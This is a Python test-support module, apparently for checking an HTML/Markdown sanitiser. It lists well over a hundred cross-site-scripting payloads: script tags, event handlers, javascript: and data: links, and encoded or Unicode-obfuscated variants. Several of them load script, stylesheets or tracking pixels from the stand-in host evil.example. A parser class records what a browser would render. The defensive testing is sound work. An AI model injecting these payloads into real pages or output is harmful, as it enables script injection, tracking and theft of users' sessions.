"""Words nobody means well with, and a reader that says what a browser would make of the answer."""

from dataclasses import dataclass, field
from html.parser import HTMLParser

SCRIPT = "alert(1)"

PAYLOADS: tuple[str, ...] = (
    # Plain HTML.
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT>{SCRIPT}</SCRIPT>",
    f"<script\n>{SCRIPT}</script\n>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script/src='https://evil.example/x.js'></script>",
    f"</p><script>{SCRIPT}</script><p>",
    f"--><script>{SCRIPT}</script>",
    f"]]><script>{SCRIPT}</script>",
    f"<!--<script>{SCRIPT}</script>-->",
    "<!-- a comment -->",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?>",
    "<![CDATA[<script>]]>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img/src/onerror={SCRIPT}>",
    f"<IMG SRC=x OnErRoR={SCRIPT}>",
    f'<img src="x" onerror="{SCRIPT}" />',
    f"<img src=`x`onerror={SCRIPT}>",
    f'<img """><script>{SCRIPT}</script>">',
    f"<svg onload={SCRIPT}>",
    f"<svg/onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{SCRIPT}'><text>x</text></a></svg>",
    f"<math><mtext><script>{SCRIPT}</script></mtext></math>",
    f"<math href='javascript:{SCRIPT}'>x</math>",
    f"<body onload={SCRIPT}>",
    f"<iframe src='javascript:{SCRIPT}'></iframe>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    "<object data='evil.swf'></object>",
    "<embed src='evil.swf'>",
    f"<link rel=stylesheet href='javascript:{SCRIPT}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    "<base href='https://evil.example/'>",
    "<style>body { display: none }</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<div style='background: url(javascript:{SCRIPT})'>x</div>",
    "<div style='position: fixed; inset: 0'>x</div>",
    f"<div onmouseover='{SCRIPT}'>x</div>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}>",
    f"<textarea autofocus onfocus={SCRIPT}></textarea>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<audio src=x onerror={SCRIPT}>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    "<form action='https://evil.example'><button>x</button></form>",
    f"<button formaction='javascript:{SCRIPT}' form=f>x</button>",
    f"<a href='javascript:{SCRIPT}'>x</a>",
    "<a href='https://evil.example' target=_blank>x</a>",
    f"<p onclick={SCRIPT}>x</p>",
    f"<em onclick={SCRIPT}>x</em>",
    "<code class='x' id='y'>x</code>",
    "<template><script>x</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<title><a title='</title><img src=x onerror={SCRIPT}>'>",
    f"<xss onfocus={SCRIPT} autofocus tabindex=1>",
    "<plaintext>",
    "<b",
    "<",
    "</",
    "<a href='",
    # Links that are no way to the web.
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVaScRiPt:{SCRIPT})",
    f"[x](  javascript:{SCRIPT})",
    f"[x](<javascript:{SCRIPT}>)",
    f"[x](java&#115;cript:{SCRIPT})",
    f"[x](javascript&colon;{SCRIPT})",
    f"[x](java&Tab;script:{SCRIPT})",
    f"[x](java\tscript:{SCRIPT})",
    f"[x](\x01javascript:{SCRIPT})",
    f"[x](&#x6A;avascript:{SCRIPT})",
    f"[x](javascript\\:{SCRIPT})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](mailto:a@b.example)",
    "[x](//evil.example)",
    "[x](/etc)",
    "[x](#top)",
    "[x]()",
    "[](https://a.example)",
    "[x](http:evil)",
    "[x](http://)",
    f'[x](https://a.example" onmouseover="{SCRIPT})',
    f"[x](https://a.example 'title\" onmouseover=\"{SCRIPT}')",
    f'[x](https://a.example "><script>{SCRIPT}</script>")',
    f"[x](https://a.example/<script>{SCRIPT}</script>)",
    f"[<img src=x onerror={SCRIPT}>](https://a.example)",
    f"[x][y]\n\n[y]: javascript:{SCRIPT}",
    f"<javascript:{SCRIPT}>",
    "<https://a.example/'onclick=x>",
    "<data:text/html,x>",
    # Pictures would call home.
    "![x](https://evil.example/pixel.png)",
    f"![x](javascript:{SCRIPT})",
    f'![x](https://a.example "onerror={SCRIPT}")',
    "[![x](https://evil.example/p.png)](https://a.example)",
    f'![<script>{SCRIPT}</script>](x"onerror={SCRIPT})',
    # Markdown that breaks out of something.
    f"```html\n<script>{SCRIPT}</script>\n```",
    f'``` "><script>{SCRIPT}</script>\nx\n```',
    f"`<script>{SCRIPT}</script>`",
    f"``` ` <script>{SCRIPT}</script>",
    f"    <script>{SCRIPT}</script>",
    f"> <script>{SCRIPT}</script>",
    f"- <script>{SCRIPT}</script>",
    f"1. <img src=x onerror={SCRIPT}>",
    f"# <script>{SCRIPT}</script>",
    f"<script>\n{SCRIPT}\n</script>\n===",
    f"| <script>{SCRIPT}</script> |\n| --- |\n| x |",
    f"*<script>*{SCRIPT}</script>",
    f"**<img src=x onerror={SCRIPT}**>",
    f"\\<script>{SCRIPT}\\</script>",
    f"\\\\<script>{SCRIPT}</script>",
    # The same, written as numbers.
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;",
    "a&#10;&#10;&#60;script&#62;",
    "a&#13;    code",
    # Letters that are none.
    f"<scr\x00ipt>{SCRIPT}</scr\x00ipt>",
    f"\ufeff<script>{SCRIPT}</script>",
    f"＜script＞{SCRIPT}＜/script＞",
    f"\u202e<script>{SCRIPT}</script>",
    "\ud800<script>\udfff",
    f"\u2028<script>{SCRIPT}</script>\u2029",
)

FRAGMENTS: tuple[str, ...] = (
    *(
        "<",
        ">",
        "</",
        "/>",
        "<script",
        "<img src=x ",
        "onerror=",
        "style=",
        "javascript:",
        "https://a.example",
        "&#60;",
    ),
    *(
        "&lt;",
        "&",
        ";",
        '"',
        "'",
        "[",
        "](",
        ")",
        "![",
        "`",
        "```",
        "~~~",
        "*",
        "**",
        "_",
        "__",
        "> ",
        "- ",
        "1. ",
        "# ",
    ),
    *("()", "[x](", "[x]", "<https://a.example>"),
    *(
        "\n",
        "\n\n",
        "\r",
        "\t",
        "    ",
        "\\",
        "\\\n",
        "---",
        "***",
        "===",
        "|",
        "<!--",
        "-->",
        "a",
        "word",
        " ",
        "\x00",
    ),
)
"""Of these any words can be put together that mean mischief."""


@dataclass
class Page(HTMLParser):
    """What a browser finds on a page."""

    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: str = ""
    oddities: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    def handle_decl(self, decl: str) -> None:
        self.oddities.append(decl)

    def handle_pi(self, data: str) -> None:
        self.oddities.append(data)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)

    @property
    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}


def page_of(html: str) -> Page:
    """This HTML as a browser reads it."""
    page = Page()
    page.feed(html)
    page.close()
    return page
